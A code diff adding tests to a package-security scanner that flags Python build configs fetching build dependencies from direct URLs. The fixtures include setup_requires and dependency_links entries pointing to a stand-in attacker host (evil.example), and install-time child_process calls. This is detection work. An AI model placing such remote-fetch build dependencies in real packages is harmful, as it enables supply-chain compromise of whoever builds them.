@@ -39,7 +39,7 @@ std::string archive(const Files& files) {
     return deflated(tar.build(), 31);
 }
 
-[[maybe_unused]] Outcome sdist(Files files) {
+Outcome sdist(Files files) {
     for (auto& [path, content] : files) path = "pkg-1.0/" + path;
     files.emplace_back("pkg-1.0/PKG-INFO", "Name: pkg\nVersion: 1.0\n");
     return tests::examine(archive(files), "pkg-1.0.tar.gz", {}, no_sha256);
@@ -197,4 +197,22 @@ TEST_CASE("JavaScript: roundabout ways to code and to programs") {
     }
     CHECK(run("import('fs').then(m => m.readFileSync('x'))").traits() == "runs-at-install: postinstall: node i.js\n");
     CHECK(run("import('child_process').then(m => m.execSync('ls'))").traits() == "process-at-install: child_process.execSync(ls)\nruns-at-install: postinstall: node i.js\n");
+}
+
+TEST_CASE("sdist: what is fetched from a place for the build") {
+    const std::string system = "[build-system]\nbuild-backend = \"setuptools.build_meta\"\nrequires = ";
+    for (const Files& files : {Files{{"pyproject.toml", system + "[\"setuptools\", \"x @ https://evil.example/x.whl\"]\n"}}, Files{{"pyproject.toml", system + "[\"x[a]@git+https://evil.example/x\"]\n"}},
+                               Files{{"pyproject.toml", system + "[]\n[tool.hatch.build.hooks.custom]\ndependencies = [\"x @ https://evil.example/x.whl\"]\n"}},
+                               Files{{"setup.py", "from setuptools import setup\nsetup(setup_requires=['x @ https://evil.example/x.whl'])\n"}},
+                               Files{{"setup.py", "from setuptools import setup\nsetup(setup_requires=['x'], dependency_links=['https://evil.example/x'])\n"}},
+                               Files{{"setup.py", "from setuptools import setup\nsetup(**{'setup_requires': ['x'], 'dependency_links': ['https://evil.example/x']})\n"}},
+                               Files{{"setup.cfg", "[options]\nsetup_requires =\n    x @ https://evil.example/x.whl\n"}}, Files{{"setup.cfg", "[options]\nsetup_requires = x\ndependency_links = https://evil.example/x\n"}}}) {
+        CAPTURE(files[0].second);
+        CHECK(sdist(files).has_trait("direct-url-dependency"));
+    }
+    for (const Files& files : {Files{{"pyproject.toml", system + "[\"setuptools>=61\", \"wheel; python_version < '3.9'\"]\n[tool.hatch.build]\ninclude = [\"a@b\"]\n"}}, Files{{"setup.cfg", "\n[metadata]\nurl = https://docs.example/\nauthor_email = a@b.example\nx\n="}},
+                               Files{{"setup.py", "from setuptools import setup\nsetup(url='https://docs.example/', author_email='a@b.example', setup_requires=['x'], download_url='https://code.example/x.tar.gz')\n"}}}) {
+        CAPTURE(files[0].second);
+        CHECK_FALSE(sdist(files).has_trait("direct-url-dependency"));
+    }
 }
